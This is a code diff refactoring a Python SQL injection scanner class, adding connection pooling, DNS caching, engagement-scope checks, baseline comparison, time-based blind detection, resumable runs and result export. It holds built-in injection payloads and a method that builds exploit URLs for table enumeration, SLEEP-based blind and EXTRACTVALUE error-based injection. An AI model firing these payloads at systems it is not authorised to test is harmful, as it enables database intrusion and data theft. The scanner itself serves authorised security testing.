@@ -1,29 +1,110 @@
+import hashlib
+import os
+import secrets
 import socket
 import sqlite3
+import threading
 import time
-import ssl
+import zlib
 from urllib.parse import urlparse, quote
 from colorama import Fore, Style
+from http_pool import ConnectionPool, PipelineBatcher
+from scan_engine import ScanEngine
+from tls_cache import TLSCache
+from signatures import SignatureMatcher
+from fingerprint import PageFingerprint, Baseline, strip_reflection
+from timing import LatencyModel, expected_delay
+from results_store import ResultStore, resolve
+from schema import migrate
+from corpus import Corpus
+from scheduler import PayloadStats, ParamScheduler
+from discovery import InjectionPointParser
+from phases import PhaseRecorder, summary_lines, write_jsonl
+from renderer import Renderer
+from resolver import DNSCache, connect_fastest
+from export import EXPORTERS, iter_findings
+from targets import ScopeError
+
+class ProbeResult:
+    def __init__(self, vulnerable, response, dbms=None, evidence=None, changed=False, elapsed=None,
+                 body=None, technique=None):
+        self.vulnerable = vulnerable
+        self.response = response
+        self.body = body if body is not None else response
+        self.dbms = dbms
+        self.evidence = evidence
+        self.changed = changed
+        self.elapsed = elapsed
+        self.technique = technique
+
+RESOURCE_DIR = os.path.dirname(os.path.abspath(__file__))
 
 class XvoidSQLScanner:
-    def __init__(self):
+    def __init__(self, concurrency=4, rate_limit=3, verify_tls=False, max_response_bytes=262144,
+                 timing_concurrency=2, stop_confidence=0.95, param_mode='discover', pipeline_depth=0,
+                 timings=None, quiet=False, jsonl=None, dns_ttl=300):
         self.db_name = 'xvoid_scans.db'
+        # quiet: only warnings and findings; jsonl: stream findings to a file, or '-' for stdout
+        self.ui = Renderer(quiet=quiet, jsonl=jsonl)
+        self.params_file = os.path.join(RESOURCE_DIR, 'params.txt')
+        self.payloads_file = os.path.join(RESOURCE_DIR, 'payload.txt')
+        self.verify_tls = verify_tls
+        self.max_response_bytes = max_response_bytes
+        self.tls = TLSCache()
+        # Names are resolved once per host for all probes, not once per connection
+        self.dns = DNSCache(ttl=dns_ttl)
+        # Engagement scope for multi-target runs; connections outside it are refused
+        self.scope = None
+        # timings: None (off), 'summary' (table per target) or a JSON lines path
+        self.timings = timings
+        self.phases = PhaseRecorder() if timings else None
+        self.pool = ConnectionPool(self.create_socket, max_per_host=concurrency + timing_concurrency,
+                                   idle_timeout=30, on_release=self.remember_tls_session,
+                                   phases=self.phases)
+        # Optional: probes in flight together are written back-to-back on one
+        # connection, so each of the `concurrency` connections carries a
+        # pipeline of up to `pipeline_depth` probes
+        self.batcher = None
+        if pipeline_depth > 1:
+            self.batcher = PipelineBatcher(self.pool, depth=pipeline_depth)
+            concurrency *= pipeline_depth
+        self.engine = ScanEngine(self.probe, concurrency=concurrency, rate_limit=rate_limit,
+                                 slow_concurrency=timing_concurrency)
+        self.latency = LatencyModel()
+        self.signatures = SignatureMatcher.default()
+        self.baselines = {}
+        self.baseline_values = [f"xv{secrets.token_hex(3)}" for _ in range(2)]
+        self.unchanged_limit = 5
+        self.stop_confidence = stop_confidence
+        # discover: names found on the page, wordlist: params.txt, both: found + params.txt
+        if param_mode not in ('discover', 'wordlist', 'both'):
+            raise ValueError(f"Unknown parameter mode: {param_mode}")
+        self.param_mode = param_mode
         self.init_database()
+        self.payload_stats = PayloadStats.load(self.db_name)
+        self.store = ResultStore(self.db_name)
+        # Hashes of bodies already queued for storage, per target being scanned
+        self.stored_responses = {}
+        self.run_id = None
+        # Set on interrupt; running scans stop taking new probes
+        self.cancelled = threading.Event()
         self.load_resources()
         
     def load_resources(self):
         # Load parameters
         try:
-            with open('params.txt', 'r') as f:
+            with open(self.params_file, 'r') as f:
                 self.params = [line.strip() for line in f if line.strip()]
-        except:
+        except OSError:
+            self.ui.warn(f"[!] {self.params_file} not readable, using built-in parameters")
             self.params = ['id', 'user', 'page', 'search', 'q', 'cat', 'product', 'name']
         
         # Load payloads
         try:
-            with open('payloads.txt', 'r') as f:
+            with open(self.payloads_file, 'r') as f:
                 self.payloads = [line.strip() for line in f if line.strip()]
-        except:
+        except OSError:
+            self.ui.warn(f"[!] {self.payloads_file} not readable, using built-in payloads")
             self.payloads = [
                 "' OR '1'='1",
                 "' UNION SELECT null,@@version,null--",
@@ -36,166 +117,467 @@ class XvoidSQLScanner:
                 "\" OR \"1\"=\"1",
                 "' UNION SELECT 1,2,3,4,5--"
             ]
+        
+        # Encode everything once; probes only splice bytes into a template
+        self.corpus = Corpus(self.params, self.payloads)
     
     def init_database(self):
+        migrate(self.db_name)
+    
+    def save_result(self, target, vulnerable, parameter, payload, response, dbms=None):
+        run_id = self.run_id
+        phases = self.phases
+        # Bodies are stored once per distinct content, compressed
+        body = response.encode('utf-8')
+        response_hash = hashlib.sha256(body).hexdigest()
+        compressed = None
+        stored = self.stored_responses.setdefault(target, set())
+        if response_hash not in stored:
+            compressed = zlib.compress(body, 6)
+            stored.add(response_hash)
+        
+        def write(cursor):
+            watch = phases.stopwatch(target) if phases else None
+            if compressed is not None:
+                cursor.execute('''INSERT OR IGNORE INTO responses (hash, body, size)
+                                  VALUES (?, ?, ?)''',
+                               (response_hash, compressed, len(body)))
+            cursor.execute('''INSERT INTO scans (target, vulnerable, parameter, payload, response_hash, run_id, dbms)
+                              VALUES (?, ?, ?, ?, ?, ?, ?)''',
+                           (target, 1 if vulnerable else 0, parameter, payload, response_hash, run_id, dbms))
+            
+            scan_id = cursor.lastrowid
+            
+            if vulnerable:
+                exploit_url = f"{target}?{parameter}={quote(payload)}"
+                cursor.execute('''INSERT INTO exploits (scan_id, exploit_url, type)
+                                  VALUES (?, ?, ?)''',
+                               (scan_id, exploit_url, 'SQL Injection'))
+            if watch:
+                watch.lap('db')
+            return scan_id
+        
+        # Returns a Future for the scan id; the row is written in the background
+        return self.store.submit(write)
+    
+    def start_run(self, kind, source, resume=None):
+        if resume is not None:
+            def find(cursor):
+                cursor.execute('''SELECT id, kind, source, finished FROM runs WHERE id = ?''', (resume,))
+                return cursor.fetchone()
+            row = self.store.submit(find).result()
+            if row is None:
+                raise ValueError(f"Unknown run id: {resume}")
+            if row[3] is not None:
+                raise ValueError(f"Run {resume} already finished at {row[3]}, nothing to resume")
+            self.run_id, kind, source = row[:3]
+            return kind, source
+        
+        def create(cursor):
+            cursor.execute('''INSERT INTO runs (kind, source) VALUES (?, ?)''', (kind, source))
+            return cursor.lastrowid
+        self.run_id = self.store.submit(create).result()
+        return kind, source
+    
+    def finish_run(self):
+        if self.run_id is None:
+            return
+        run_id = self.run_id
+        
+        def finish(cursor):
+            cursor.execute('''UPDATE runs SET finished = CURRENT_TIMESTAMP WHERE id = ?''', (run_id,))
+        self.store.submit(finish)
+        self.run_id = None
+    
+    def completed_probes(self, target):
+        self.store.flush()
         conn = sqlite3.connect(self.db_name)
-        cursor = conn.cursor()
-        cursor.execute('''CREATE TABLE IF NOT EXISTS scans
-                         (id INTEGER PRIMARY KEY AUTOINCREMENT,
-                          target TEXT,
-                          vulnerable INTEGER,
-                          parameter TEXT,
-                          payload TEXT,
-                          response TEXT,
-                          timestamp DATETIME DEFAULT CURRENT_TIMESTAMP)''')
-        cursor.execute('''CREATE TABLE IF NOT EXISTS exploits
-                         (id INTEGER PRIMARY KEY AUTOINCREMENT,
-                          scan_id INTEGER,
-                          exploit_url TEXT,
-                          type TEXT,
-                          FOREIGN KEY(scan_id) REFERENCES scans(id))''')
-        conn.commit()
-        conn.close()
+        try:
+            rows = conn.execute('''SELECT parameter, payload FROM checkpoints
+                                    WHERE run_id = ? AND target = ?''', (self.run_id, target))
+            return set(rows)
+        finally:
+            conn.close()
     
-    def save_result(self, target, vulnerable, parameter, payload, response):
+    def saved_findings(self, target):
+        self.store.flush()
         conn = sqlite3.connect(self.db_name)
-        cursor = conn.cursor()
-        cursor.execute('''INSERT INTO scans (target, vulnerable, parameter, payload, response)
-                          VALUES (?, ?, ?, ?, ?)''',
-                       (target, 1 if vulnerable else 0, parameter, payload, response))
-        
-        scan_id = cursor.lastrowid
+        try:
+            return conn.execute('''SELECT parameter, payload, dbms FROM scans
+                                   WHERE run_id = ? AND target = ? AND vulnerable = 1
+                                   ORDER BY id''', (self.run_id, target)).fetchall()
+        finally:
+            conn.close()
+    
+    def target_done(self, target):
+        self.store.flush()
+        conn = sqlite3.connect(self.db_name)
+        try:
+            row = conn.execute('''SELECT 1 FROM targets_done WHERE run_id = ? AND target = ?''',
+                               (self.run_id, target)).fetchone()
+            return row is not None
+        finally:
+            conn.close()
+    
+    def mark_target_done(self, target):
+        run_id = self.run_id
         
-        if vulnerable:
-            exploit_url = f"{target}?{parameter}={quote(payload)}"
-            cursor.execute('''INSERT INTO exploits (scan_id, exploit_url, type)
-                              VALUES (?, ?, ?)''',
-                           (scan_id, exploit_url, 'SQL Injection'))
+        def write(cursor):
+            cursor.execute('''INSERT OR IGNORE INTO targets_done (run_id, target) VALUES (?, ?)''',
+                           (run_id, target))
+        self.store.submit(write)
+    
+    def checkpoint(self, target, param, payload):
+        run_id = self.run_id
+        phases = self.phases
         
-        conn.commit()
-        conn.close()
-        return scan_id
+        def write(cursor):
+            watch = phases.stopwatch(target) if phases else None
+            cursor.execute('''INSERT OR IGNORE INTO checkpoints (run_id, target, parameter, payload)
+                              VALUES (?, ?, ?, ?)''', (run_id, target, param, payload))
+            if watch:
+                watch.lap('db')
+        self.store.submit(write)
+    
+    def load_response(self, scan_id):
+        self.store.flush()
+        conn = sqlite3.connect(self.db_name)
+        try:
+            row = conn.execute('''SELECT r.body FROM scans s
+                                   JOIN responses r ON r.hash = s.response_hash
+                                   WHERE s.id = ?''', (scan_id,)).fetchone()
+        finally:
+            conn.close()
+        return zlib.decompress(row[0]).decode('utf-8') if row else None
     
     def create_socket(self, host, port, is_https):
-        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.settimeout(10)
+        # Resolve, connect and handshake as separate steps so each can be timed
+        watch = self.phases.stopwatch() if self.phases else None
+        addresses = self.dns.resolve(host, port)
+        if self.scope is not None:
+            addresses = [address for address in addresses if self.scope.allows_address(host, address[1][0])]
+            if not addresses:
+                raise ScopeError(f"{host} no longer resolves inside the engagement scope")
+        if watch:
+            watch.lap('dns')
         
+        # IPv6 and IPv4 addresses are raced; the first to connect is kept
+        sock = connect_fastest(addresses, timeout=10)
+        sock.settimeout(10)
+        try:
+            if watch:
+                watch.lap('connect')
+            if is_https:
+                sock = self.tls.wrap(sock, host, port, self.verify_tls)
+                if watch:
+                    watch.lap('tls')
+        except Exception:
+            sock.close()
+            raise
+        return sock
+    
+    def remember_tls_session(self, conn):
+        host, port, is_https = conn.key
         if is_https:
-            context = ssl.create_default_context()
-            context.check_hostname = False
-            context.verify_mode = ssl.CERT_NONE
-            sock = context.wrap_socket(sock, server_hostname=host)
+            self.tls.store(conn.sock, host, port, self.verify_tls)
+    
+    def throttle(self, host):
+        # For requests sent outside the engine's workers, which take their
+        # token before each probe; these still count against the rate limit
+        bucket = self.engine.bucket_for(host)
+        if bucket:
+            delay = bucket.reserve()
+            if delay > 0:
+                time.sleep(delay)
+    
+    def fetch(self, url, param, value, pipelined=False):
+        template, request = self.corpus.request(url, param, value)
+        if self.phases:
+            self.phases.begin(url)
         
-        sock.connect((host, port))
-        return sock
+        # Send over a pooled keep-alive connection, or as part of a pipeline
+        send = self.batcher.request if pipelined and self.batcher else self.pool.request
+        response = send(template.host, template.port, template.is_https, request, self.max_response_bytes)
+        
+        return response.status, response.body.decode('utf-8', errors='ignore')
     
-    def send_payload(self, url, param, payload):
+    def discover_page(self, url):
+        template = self.corpus.template(url)
+        self.throttle(urlparse(url).netloc)
+        if self.phases:
+            self.phases.begin(url)
+        response = self.pool.request(template.host, template.port, template.is_https, template.page(),
+                                     self.max_response_bytes)
+        parser = InjectionPointParser(url)
+        parser.feed(response.body.decode('utf-8', errors='ignore'))
+        parser.close()
+        return parser
+    
+    def injection_points(self, url):
+        if self.param_mode == 'wordlist':
+            return self.params
         try:
-            parsed = urlparse(url)
-            host = parsed.netloc
-            path = parsed.path if parsed.path else "/"
-            
-            # Determine port and protocol
-            if parsed.scheme == 'https':
-                port = 443
-                is_https = True
-            else:
-                port = 80
-                is_https = False
-            
-            # Add port if specified
-            if ':' in host:
-                host, port_str = host.split(':')
-                port = int(port_str)
-            
-            # Create HTTP request
-            encoded_payload = quote(payload)
-            query = f"{param}={encoded_payload}"
-            
-            request = f"GET {path}?{query} HTTP/1.1\r\n"
-            request += f"Host: {host}\r\n"
-            request += "User-Agent: Mozilla/5.0 (X-Void-Scanner/3.0)\r\n"
-            request += "Accept: */*\r\n"
-            request += "Connection: close\r\n\r\n"
-            
-            # Send via socket
-            sock = self.create_socket(host, port, is_https)
-            sock.send(request.encode())
-            
-            # Receive response
-            response = b""
-            while True:
-                try:
-                    chunk = sock.recv(4096)
-                    if not chunk:
-                        break
-                    response += chunk
-                except socket.timeout:
-                    break
-            
-            sock.close()
+            parser = self.discover_page(url)
+        except Exception as e:
+            self.ui.warn(f"[!] Discovery failed ({e}), using {len(self.params)} wordlist parameters")
+            return self.params
+        
+        found = parser.parameters(url)
+        self.ui.info(f"[>] Discovered {len(found)} parameters: {', '.join(found)[:80]}")
+        others = len(parser.endpoints) - 1
+        if others:
+            self.ui.info(f"[>] {others} other endpoints on this host are linked from the page")
+        if self.param_mode == 'both':
+            found += [param for param in self.params if param not in found]
+        elif not found:
+            self.ui.info(f"[>] Nothing to aim at, falling back to {len(self.params)} wordlist parameters")
+            return self.params
+        return found
+    
+    def fetch_baseline(self, url, param):
+        key = (url, param)
+        if key not in self.baselines:
+            pages = []
+            host = urlparse(url).netloc
+            try:
+                for i, value in enumerate(self.baseline_values):
+                    # The engine took a token for this job; later fetches need their own
+                    if i:
+                        self.throttle(host)
+                    started = time.monotonic()
+                    pages.append(self.fetch(url, param, value))
+                    self.latency.observe(host, time.monotonic() - started)
+            except Exception:
+                self.baselines[key] = None
+                return None
+            prints = [PageFingerprint(status, strip_reflection(text, value))
+                      for (status, text), value in zip(pages, self.baseline_values)]
+            errors = [found[1] for found in (self.signatures.match(text) for _, text in pages) if found]
+            self.baselines[key] = Baseline(prints[0], prints[1], errors)
+        return self.baselines[key]
+    
+    def sample_latency(self, url, param):
+        host = urlparse(url).netloc
+        for _ in range(self.latency.min_samples):
+            if self.latency.ready(host):
+                break
+            try:
+                self.throttle(host)
+                started = time.monotonic()
+                self.fetch(url, param, self.baseline_values[0])
+                self.latency.observe(host, time.monotonic() - started)
+            except Exception:
+                break
+    
+    def timed_fetch(self, url, param, payload, delay):
+        started = time.monotonic()
+        try:
+            # Sleep payloads are never pipelined; queueing would blur the delay
+            status, response_text = self.fetch(url, param, payload, pipelined=not delay)
+        except socket.timeout:
+            # A sleep long enough to hit the socket timeout still counts as a delay
+            if not delay:
+                raise
+            status, response_text = None, ""
+        return status, response_text, time.monotonic() - started
+    
+    def probe(self, url, param, payload):
+        try:
+            host = self.corpus.template(url).netloc
+            delay = expected_delay(payload)
+            status, response_text, elapsed = self.timed_fetch(url, param, payload, delay)
+            if not delay and self.batcher is None:
+                self.latency.observe(host, elapsed)
+            baseline = self.baselines.get((url, param))
             
-            response_text = response.decode('utf-8', errors='ignore')
+            changed = False
+            if baseline and status is not None:
+                fingerprint = PageFingerprint(status, strip_reflection(response_text, payload))
+                changed = baseline.changed(fingerprint)
             
-            # Check for SQL errors
-            sql_errors = [
-                'sql', 'mysql', 'postgresql', 'oracle',
-                'syntax', 'error', 'warning', 'exception',
-                'unclosed', 'quotation', 'statement',
-                'odbc', 'driver', 'oledb', 'pdo'
-            ]
+            # Check for DBMS error signatures the page doesn't show anyway
+            watch = self.phases.stopwatch(url) if self.phases else None
+            found = self.signatures.match(response_text)
+            if watch:
+                watch.lap('match')
+            if found and not (baseline and found[1] in baseline.errors):
+                dbms, evidence = found
+                return ProbeResult(True, response_text[:500], dbms, evidence, changed, elapsed, response_text,
+                                   'error')
             
-            for error in sql_errors:
-                if error in response_text.lower():
-                    return True, response_text[:500]
+            # Check for time delay (blind SQL), confirmed by a second request
+            if delay and self.latency.is_delayed(host, elapsed, delay[0]):
+                self.throttle(urlparse(url).netloc)
+                _, _, retry = self.timed_fetch(url, param, payload, delay)
+                if self.latency.is_delayed(host, retry, delay[0]):
+                    stats = self.latency.stats(host)
+                    evidence = (f"Response delayed {elapsed:.2f}s/{retry:.2f}s "
+                                f"(baseline {stats.mean:.2f}s +/- {stats.stdev:.2f}s)")
+                    return ProbeResult(True, response_text[:500], delay[1], evidence, changed, elapsed,
+                                       response_text, 'time')
             
-            # Check for time delay (blind SQL)
-            return False, response_text[:500]
+            return ProbeResult(False, response_text[:500], changed=changed, elapsed=elapsed)
             
         except Exception as e:
-            return None, f"Error: {str(e)}"
+            return ProbeResult(None, f"Error: {str(e)}")
     
-    def scan_target(self, target_url):
-        print(f"\n{Fore.RED}{'='*60}{Style.RESET_ALL}")
-        print(f"{Fore.RED}[>] TARGET: {target_url}{Style.RESET_ALL}")
-        print(f"{Fore.RED}[>] Loading {len(self.payloads)} payloads...{Style.RESET_ALL}")
+    def send_payload(self, url, param, payload):
+        result = self.probe(url, param, payload)
+        return result.vulnerable, result.response
+    
+    def cancel(self):
+        self.cancelled.set()
+    
+    def forget_target(self, target_url):
+        # Per-target state goes once the scan is over, so a long targets
+        # list doesn't keep every page's baselines and template around
+        for key in [key for key in list(self.baselines) if key[0] == target_url]:
+            self.baselines.pop(key, None)
+        self.corpus.forget(target_url)
+        self.stored_responses.pop(target_url, None)
+    
+    def scan_target(self, target_url, params=None):
+        if self.cancelled.is_set():
+            return []
+        try:
+            return self._scan_target(target_url, params)
+        finally:
+            self.forget_target(target_url)
+    
+    def _scan_target(self, target_url, params=None):
+        self.ui.info("", '='*60, f"[>] TARGET: {target_url}", f"[>] Loading {len(self.payloads)} payloads...")
+        
+        if self.run_id is None:
+            self.start_run('url', target_url)
+        
+        # Targets finished earlier in this run (see --resume) get no requests
+        # at all, and finished probes of the others are not repeated
+        if self.target_done(target_url):
+            self.ui.info(f"[>] Already finished in run {self.run_id}, skipping")
+            return []
+        completed = self.completed_probes(target_url)
+        if completed:
+            self.ui.info(f"[>] Resuming run {self.run_id}: {len(completed)} probes already done")
+        
+        # Only parameters the page actually uses, unless told otherwise
+        if params is None:
+            params = self.injection_points(target_url)
         
         vulnerabilities = []
+        total = sum(1 for param in params for payload in self.payloads if (param, payload) not in completed)
+        host = urlparse(target_url).netloc
+        
+        # Baselines first, so every probe can be compared against its parameter's page
+        self.engine.run(target_url, host, [(param,) for param in params], lambda *args: None,
+                        probe=self.fetch_baseline, skip=lambda index, job: self.cancelled.is_set())
+        if params and not self.cancelled.is_set():
+            self.sample_latency(target_url, params[0])
+        
+        # Payloads with the best hit rate go first, and a parameter gets no
+        # more payloads once its findings reach stop_confidence
+        scheduler = ParamScheduler(self.payload_stats, self.stop_confidence)
+        if completed:
+            for param, payload, dbms in self.saved_findings(target_url):
+                scheduler.restore(param, 'time' if expected_delay(payload) else 'error', dbms)
+        
+        # Sleep payloads run on their own lane and are never skipped
+        delay_payloads = {payload for payload in self.payloads if expected_delay(payload)}
+        fast_payloads = [payload for payload in self.payloads if payload not in delay_payloads]
+        slow_payloads = [payload for payload in self.payloads if payload in delay_payloads]
+        jobs = scheduler.jobs(params, fast_payloads, completed)
+        slow_jobs = scheduler.jobs(params, slow_payloads, completed)
+        
+        # Parameters whose page never reacts are dropped after a few probes
+        unchanged = {}
+        live = set()
+        skipped = [0]
+        # Probes that errored; a target with any isn't marked done
+        failed = [0]
         
-        for param in self.params:
-            print(f"\n{Fore.RED}[*] Testing parameter: {param}{Style.RESET_ALL}")
+        def skip(index, job):
+            param = job[0]
+            if self.cancelled.is_set():
+                return True
+            if job[1] in delay_payloads:
+                return False
+            if param not in live and unchanged.get(param, 0) >= self.unchanged_limit:
+                skipped[0] += 1
+                return True
+            return False
+        
+        def on_result(index, job, result):
+            param, payload = job
+            vulnerable, response = result.vulnerable, result.response
+            self.ui.advance(target_url, f"{param}: {payload[:30]}...")
             
-            for i, payload in enumerate(self.payloads, 1):
-                print(f"{Fore.RED}[{i}/{len(self.payloads)}] Testing: {payload[:30]}...{Style.RESET_ALL}", end='\r')
-                
-                time.sleep(0.3)  # Stealth delay
+            baseline = self.baselines.get((target_url, param))
+            if vulnerable is None:
+                failed[0] += 1
+            else:
+                scheduler.record(param, payload, result)
+            if vulnerable or result.changed:
+                live.add(param)
+            elif vulnerable is False and baseline and baseline.static and payload not in delay_payloads:
+                unchanged[param] = unchanged.get(param, 0) + 1
+            
+            if vulnerable:
+                self.ui.finding(target_url, param, payload, result, self.run_id)
                 
-                vulnerable, response = self.send_payload(target_url, param, payload)
+                scan_id = self.save_result(target_url, True, param, payload, result.body, result.dbms)
+                vulnerabilities.append((param, payload, response, scan_id))
                 
-                if vulnerable:
-                    print(f"\n{Fore.RED}[!] VULNERABLE! Parameter: {param}{Style.RESET_ALL}")
-                    print(f"{Fore.RED}[!] Payload: {payload}{Style.RESET_ALL}")
-                    print(f"{Fore.RED}[!] Response snippet: {response[:100]}...{Style.RESET_ALL}")
-                    
-                    scan_id = self.save_result(target_url, True, param, payload, response)
-                    vulnerabilities.append((param, payload, response, scan_id))
-                    
-                    # Generate exploit suggestions
-                    self.generate_exploits(target_url, param, scan_id)
+                # Generate exploit suggestions
+                self.generate_exploits(target_url, param, scan_id)
+            
+            # Queued after the finding so a checkpoint never outlives lost results
+            if vulnerable is not None:
+                self.checkpoint(target_url, param, payload)
         
-        print(f"\n{Fore.RED}{'='*60}{Style.RESET_ALL}")
+        self.ui.start(target_url, total)
+        try:
+            self.engine.run(target_url, host, jobs, on_result, skip=skip, slow_jobs=slow_jobs)
+        finally:
+            self.ui.finish(target_url)
+        if not self.cancelled.is_set() and not failed[0]:
+            self.mark_target_done(target_url)
+        
+        if skipped[0]:
+            self.ui.info(f"[*] Skipped {skipped[0]} probes on parameters with no effect on the page")
+        if scheduler.stopped:
+            self.ui.info(f"[*] Skipped {scheduler.stopped} probes on parameters already confirmed vulnerable")
+        
+        # Probes finish out of order; report in parameter/payload order
+        self.store.flush()
+        if self.phases:
+            self.report_phases(target_url)
+        param_order = {param: i for i, param in enumerate(params)}
+        payload_order = {payload: i for i, payload in enumerate(self.payloads)}
+        vulnerabilities = [
+            (param, payload, response, resolve(scan_id))
+            for param, payload, response, scan_id in sorted(
+                vulnerabilities, key=lambda item: (param_order[item[0]], payload_order[item[1]]))
+        ]
+        
+        self.ui.info("", '='*60)
         if vulnerabilities:
-            print(f"{Fore.RED}[+] Found {len(vulnerabilities)} vulnerabilities{Style.RESET_ALL}")
+            self.ui.warn(f"[+] Found {len(vulnerabilities)} vulnerabilities")
             self.generate_report(target_url, vulnerabilities)
         else:
-            print(f"{Fore.RED}[-] No vulnerabilities found{Style.RESET_ALL}")
+            self.ui.info("[-] No vulnerabilities found")
         
         return vulnerabilities
     
+    def report_phases(self, target):
+        histograms = self.phases.pop(target)
+        if not histograms:
+            return
+        if self.timings == 'summary':
+            self.ui.info(f"[*] Phase timings for {target}", *(f"    {line}" for line in summary_lines(histograms)))
+        else:
+            write_jsonl(self.timings, target, histograms)
+            self.ui.info(f"[*] Phase timings appended to {self.timings}")
+    
     def generate_exploits(self, target_url, param, scan_id):
-        conn = sqlite3.connect(self.db_name)
-        cursor = conn.cursor()
-        
         exploits = [
             (f"{target_url}?{param}=' UNION SELECT null,table_name,null FROM information_schema.tables--", "Database Enumeration"),
             (f"{target_url}?{param}=' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--", "Time-Based Blind"),
@@ -203,34 +585,51 @@ class XvoidSQLScanner:
             (f"{target_url}?{param}=' AND EXTRACTVALUE(1,CONCAT(0x7e,@@version))--", "Error-Based"),
         ]
         
-        for exploit_url, exploit_type in exploits:
-            cursor.execute('''INSERT INTO exploits (scan_id, exploit_url, type)
-                              VALUES (?, ?, ?)''',
-                           (scan_id, exploit_url, exploit_type))
+        def write(cursor):
+            cursor.executemany('''INSERT INTO exploits (scan_id, exploit_url, type)
+                                  VALUES (?, ?, ?)''',
+                               [(resolve(scan_id), exploit_url, exploit_type)
+                                for exploit_url, exploit_type in exploits])
         
-        conn.commit()
-        conn.close()
+        return self.store.submit(write)
     
     def generate_report(self, target_url, vulnerabilities):
-        print(f"\n{Fore.RED}[SECURITY REPORT]{Style.RESET_ALL}")
-        print(f"{Fore.RED}Target: {target_url}{Style.RESET_ALL}")
-        print(f"{Fore.RED}Vulnerabilities: {len(vulnerabilities)}{Style.RESET_ALL}")
+        self.ui.warn("", "[SECURITY REPORT]", f"Target: {target_url}", f"Vulnerabilities: {len(vulnerabilities)}")
         
         for i, (param, payload, response, scan_id) in enumerate(vulnerabilities, 1):
-            print(f"\n{Fore.RED}[VULN {i}]{Style.RESET_ALL}")
-            print(f"{Fore.RED}Parameter: {param}{Style.RESET_ALL}")
-            print(f"{Fore.RED}Payload: {payload}{Style.RESET_ALL}")
-            print(f"{Fore.RED}Evidence: {response[:200]}...{Style.RESET_ALL}")
+            self.ui.warn("", f"[VULN {i}]", f"Parameter: {param}", f"Payload: {payload}",
+                         f"Evidence: {response[:200]}...")
+    
+    def _result_filters(self, target=None, parameter=None, since=None, until=None, run_id=None):
+        clauses, args = [], []
+        if run_id is not None:
+            clauses.append('s.run_id = ?')
+            args.append(run_id)
+        if target:
+            clauses.append('s.target = ?')
+            args.append(target)
+        if parameter:
+            clauses.append('s.parameter = ?')
+            args.append(parameter)
+        if since:
+            clauses.append('s.timestamp >= ?')
+            args.append(since)
+        if until:
+            clauses.append('s.timestamp <= ?')
+            args.append(until)
+        return clauses, args
     
-    def view_results(self):
+    def view_results(self, target=None, parameter=None, since=None, until=None,
+                     page_size=20, next_page=None):
+        self.store.flush()
         conn = sqlite3.connect(self.db_name)
         cursor = conn.cursor()
         
-        cursor.execute('''SELECT COUNT(*) FROM scans''')
-        total_scans = cursor.fetchone()[0]
+        clauses, args = self._result_filters(target, parameter, since, until)
+        where = f"WHERE {' AND '.join(clauses)}" if clauses else ""
         
-        cursor.execute('''SELECT COUNT(*) FROM scans WHERE vulnerable = 1''')
-        total_vuln = cursor.fetchone()[0]
+        cursor.execute(f'''SELECT COUNT(*), COALESCE(SUM(s.vulnerable), 0) FROM scans s {where}''', args)
+        total_scans, total_vuln = cursor.fetchone()
         
         print(f"\n{Fore.RED}{'='*60}{Style.RESET_ALL}")
         print(f"{Fore.RED}[SCAN DATABASE]{Style.RESET_ALL}")
@@ -238,21 +637,50 @@ class XvoidSQLScanner:
         print(f"{Fore.RED}Vulnerable targets: {total_vuln}{Style.RESET_ALL}")
         
         if total_vuln > 0:
-            cursor.execute('''SELECT s.target, s.parameter, s.payload, e.exploit_url
+            cursor.execute(f'''SELECT s.id, s.target, s.parameter, s.payload, e.exploit_url
                               FROM scans s
                               LEFT JOIN exploits e ON s.id = e.scan_id
-                              WHERE s.vulnerable = 1
-                              ORDER BY s.timestamp DESC''')
-            
-            results = cursor.fetchall()
+                              WHERE {' AND '.join(['s.vulnerable = 1'] + clauses)}
+                              ORDER BY s.timestamp DESC, s.id DESC''', args)
             
             print(f"\n{Fore.RED}[VULNERABLE TARGETS]{Style.RESET_ALL}")
-            for target, param, payload, exploit_url in results:
-                print(f"{Fore.RED}Target: {target}{Style.RESET_ALL}")
-                print(f"{Fore.RED}Parameter: {param}{Style.RESET_ALL}")
-                print(f"{Fore.RED}Payload: {payload}{Style.RESET_ALL}")
+            shown = 0
+            current = None
+            # Rows are streamed from the cursor; one block per scan, paged
+            for scan_id, target, param, payload, exploit_url in cursor:
+                if scan_id != current:
+                    if current is not None:
+                        print()
+                        shown += 1
+                        if page_size and shown % page_size == 0 and next_page and not next_page(shown, total_vuln):
+                            current = None
+                            break
+                    current = scan_id
+                    print(f"{Fore.RED}Target: {target}{Style.RESET_ALL}")
+                    print(f"{Fore.RED}Parameter: {param}{Style.RESET_ALL}")
+                    print(f"{Fore.RED}Payload: {payload}{Style.RESET_ALL}")
                 if exploit_url:
                     print(f"{Fore.RED}Exploit: {exploit_url}{Style.RESET_ALL}")
+            if current is not None:
                 print()
         
         conn.close()
+    
+    def export_results(self, fmt, out, run_id=None, target=None, since=None, until=None):
+        exporter = EXPORTERS.get(fmt)
+        if exporter is None:
+            raise ValueError(f"Unknown export format: {fmt} (use {', '.join(EXPORTERS)})")
+        self.store.flush()
+        clauses, args = self._result_filters(target, None, since, until, run_id)
+        conn = sqlite3.connect(self.db_name)
+        try:
+            return exporter(iter_findings(conn, clauses, args), out)
+        finally:
+            conn.close()
+    
+    def close(self):
+        # Workers still running must not write to a closed store
+        self.cancel()
+        self.store.close()
+        self.pool.close_all()
+        self.ui.close()